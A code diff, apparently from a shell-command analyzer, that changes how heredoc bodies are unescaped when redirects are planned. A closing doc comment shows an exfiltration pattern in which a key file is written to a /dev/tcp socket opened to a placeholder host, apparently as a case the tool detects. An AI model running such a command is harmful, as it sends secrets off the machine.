@@ -19,8 +19,10 @@ export function planRedirects(redirects: readonly Redirection[], scope: Scope, r
   const writes: Write[] = [];
   for (const redirect of redirects) {
     if (redirect.type === 'HereDoc') {
-      const { body } = redirect;
-      input = body.parts ? expandParts(body.parts, scope, runner) : { text: body.text, from: [] };
+      const { body, delimiter } = redirect;
+      // Where nothing is expanded, the parser leaves the text as it was written.
+      const text = delimiter?.quoted ? body.text : withoutEscapes(body.text);
+      input = body.parts ? expandParts(body.parts, scope, runner) : { text, from: [] };
     } else if (redirect.target) {
       const target = expandToText(redirect.target, scope, runner);
       from.push(...target.from);
@@ -32,6 +34,11 @@ export function planRedirects(redirects: readonly Redirection[], scope: Scope, r
     }
   }
   return { input, writes, from };
+}
+
+/** In a heredoc whose end is not quoted, `\\$x` is `$x` for whoever reads it. */
+function withoutEscapes(text: string): string {
+  return text.replace(/\\([$`\\]|\n)/g, (_, escaped: string) => (escaped === '\n' ? '' : escaped));
 }
 
 /** `cat key >&3` behind `exec 3<>/dev/tcp/host/80` */
